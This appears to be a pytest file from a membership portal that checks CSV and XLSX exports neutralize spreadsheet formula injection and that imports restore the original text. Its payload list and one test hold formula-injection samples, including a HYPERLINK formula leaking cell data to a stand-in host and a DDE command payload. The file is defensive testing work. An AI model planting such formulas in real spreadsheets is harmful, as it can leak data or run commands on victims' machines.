"""Spreadsheet formula injection (security audit, issue 8 finding 5).

Every export writes text as text: in CSV a text starting with ``= + - @``, a tab or a carriage
return gets a leading ``'`` (OWASP); in XLSX text cells are string cells, never formulas; numbers
stay numbers. The import removes the ``'`` again, so an exported roster imports back unchanged.
"""

import csv
import datetime
import io

import pytest
from openpyxl import Workbook, load_workbook

from members.models import Member
from portal import spreadsheets
from portal.export import ExportColumn, export_response
from tests.appraisal.conftest import city_round, people  # noqa: F401 - fixtures of the appraisal report test
from tests.members.import_helpers import csv_bytes, id_number, row, upload

EXPORT = "/api/v1/members/export/"
IMPORT = "/api/v1/members/import/"

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-1+2",
    "@SUM(1,1)",
    "\tTAB=1+1",
    "\rCR=1+1",
]


def content_of(response):
    return b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content


# --- the escaping function -----------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_text_that_starts_like_a_formula_is_neutralized_and_restored(payload):
    [written] = spreadsheets.csv_cells([payload])
    assert written == "'" + payload
    assert spreadsheets.restore_text(written) == payload


def test_csv_numbers_stay_numbers_and_plain_text_is_untouched():
    values = [-1, 2.5, True, None, datetime.date(2024, 1, 2), ["rural", "mobile"], "Zhang San", "'quoted", "13800138000"]
    assert spreadsheets.csv_cells(values) == ["-1", "2.5", "true", "", "2024-01-02", "rural;mobile", "Zhang San", "'quoted", "13800138000"]
    # A phone with its country code is text: neutralized on the way out, restored on the way in.
    assert spreadsheets.csv_cells(["+86 138 0013 8000"]) == ["'+86 138 0013 8000"]
    assert spreadsheets.restore_text("'+86 138 0013 8000") == "+86 138 0013 8000"
    # Only a quote the export could have added is removed.
    assert spreadsheets.restore_text("'quoted") == "'quoted" and spreadsheets.restore_text("'") == "'"


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_text_is_a_string_cell_and_numbers_stay_numbers(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("s") if write_only else workbook.active
    sheet.append(spreadsheets.xlsx_cells(sheet, PAYLOADS + ["#N/A", -1, 2.5, "bell\x07"]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())[0]
    for cell, payload in zip(cells, PAYLOADS):
        # (XML reads a carriage return as a line feed, formula or not.)
        assert cell.data_type == "s" and cell.value == payload.replace("\r", "\n")
    assert (cells[-4].data_type, cells[-4].value) == ("s", "#N/A")
    assert (cells[-3].data_type, cells[-3].value) == ("n", -1)
    assert (cells[-2].data_type, cells[-2].value) == ("n", 2.5)
    assert cells[-1].value == "bell"  # control characters dropped instead of failing the export


# --- the member export and the round trip --------------------------------------------------------


@pytest.fixture
def injected(tree):
    """Members whose names (and one phone) start like formulas, imported as a city administrator would."""
    return [
        Member.objects.create(
            name=payload,
            gender="male",
            birth_date=datetime.date(1990, 1, 1),
            id_number=id_number(sequence="{:03d}".format(101 + 2 * index)),
            phone="+86 138 0013 8000" if index == 0 else "13800138000",
            organization=tree["BRANCH_A"],
            status="formal",
            joined_on=datetime.date(2015, 7, 1),
            full_member_on=datetime.date(2016, 7, 1),
        )
        # (Not the tab and CR ones: the import trims every cell, as it always has.)
        for index, payload in enumerate(PAYLOADS[:5])
    ]


@pytest.mark.django_db
def test_member_csv_export_neutralizes_and_imports_back_unchanged(api_as, injected):
    client = api_as("city_admin")
    data = content_of(client.get(EXPORT, {"format": "csv"}))
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    names = {member.name for member in injected}
    assert {row["name"] for row in rows} == {"'" + name for name in names}
    assert {row["phone"] for row in rows} == {"'+86 138 0013 8000", "13800138000"}
    # Not a single cell of the file starts like a formula.
    for line in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
        assert not any(cell.startswith(spreadsheets.FORMULA_TRIGGERS) for cell in line)

    response = client.post(IMPORT, {"file": upload(data)}, format="multipart")
    assert response.status_code == 200, response.content
    assert response.json() == {"created": 0, "updated": len(injected), "dry_run": False}
    assert set(Member.objects.values_list("name", flat=True)) == names
    assert set(Member.objects.values_list("phone", flat=True)) == {"+86 138 0013 8000", "13800138000"}


@pytest.mark.django_db
def test_member_xlsx_export_writes_text_cells_and_imports_back_unchanged(api_as, injected):
    client = api_as("city_admin")
    data = content_of(client.get(EXPORT, {"format": "xlsx"}))
    sheet = load_workbook(io.BytesIO(data)).active
    header = [cell.value for cell in sheet[1]]
    name_column, phone_column = header.index("name"), header.index("phone")
    body = list(sheet.iter_rows(min_row=2))
    assert {row[name_column].value for row in body} == {member.name for member in injected}
    for cells in body:
        assert cells[name_column].data_type == "s" and cells[phone_column].data_type == "s"
        assert all(cell.data_type != "f" for cell in cells)
    assert isinstance(body[0][header.index("id")].value, int)  # numbers stay numbers

    response = client.post(IMPORT, {"file": upload(data, "members.xlsx")}, format="multipart")
    assert response.status_code == 200, response.content
    assert set(Member.objects.values_list("name", flat=True)) == {member.name for member in injected}


@pytest.mark.django_db
def test_import_of_a_neutralized_csv_stores_the_original_text(api_as):
    rows = [row(name="'=1+2", phone="'+8613800138000"), row(id_number=id_number(sequence="125"), name="'-1")]
    response = api_as("secretary_a").post(IMPORT, {"file": upload(csv_bytes(rows))}, format="multipart")
    assert response.status_code == 200, response.content
    assert sorted(Member.objects.values_list("name", "phone")) == [("-1", "13800138000"), ("=1+2", "+8613800138000")]


@pytest.mark.django_db
def test_the_import_template_is_neutralized_too(client_as, monkeypatch):
    from members.io import views

    monkeypatch.setattr(views, "example_row", lambda user: ["=1+2"] + [""] * 12)
    csv_text = client_as("secretary_a").get("/members/import/template.csv").content.decode("utf-8-sig")
    assert csv_text.splitlines()[1].startswith("'=1+2,")
    data = client_as("secretary_a").get("/members/import/template.xlsx").content
    cell = load_workbook(io.BytesIO(data)).active["A2"]
    assert (cell.data_type, cell.value) == ("s", "=1+2")


# --- the other writers: generic exports (dashboard tables), the appraisal report -----------------


class _Rows(list):
    """A list the exporter can read like a queryset (as the dashboard's tables are)."""

    def iterator(self, chunk_size=None):
        return iter(self)


def test_generic_export_in_both_formats():
    columns = [ExportColumn("label", "Item", lambda r: r[0]), ExportColumn("value", "Count", lambda r: r[1])]
    rows = _Rows([("=HYPERLINK(\"x\")", 3), ("-2", -2)])
    text = content_of(export_response(rows, columns, "csv", "table", header="labels")).decode("utf-8-sig")
    assert text.splitlines() == ["Item,Count", "\"'=HYPERLINK(\"\"x\"\")\",3", "'-2,-2"]
    data = content_of(export_response(rows, columns, "xlsx", "table", header="labels"))
    sheet = load_workbook(io.BytesIO(data)).active
    assert [(c.data_type, c.value) for c in sheet[2]] == [("s", '=HYPERLINK("x")'), ("n", 3)]
    assert [(c.data_type, c.value) for c in sheet[3]] == [("s", "-2"), ("n", -2)]


@pytest.mark.django_db
def test_appraisal_report_writes_organization_names_as_text(client_as, city_round, people, tree, users):  # noqa: F811
    from appraisal import services

    tree["BRANCH_A"].name = '=HYPERLINK("http://evil.example","x")'
    tree["BRANCH_A"].save()
    services.save_ratings(city_round, users["city_admin"], [{"member": people["A"][0].pk, "rating": "qualified"}])
    response = client_as("county_staff").get("/appraisal/{}/report.xlsx".format(city_round.pk))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = next(cell for row in sheet.iter_rows() for cell in row if cell.value == tree["BRANCH_A"].name)
    assert cell.data_type == "s"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
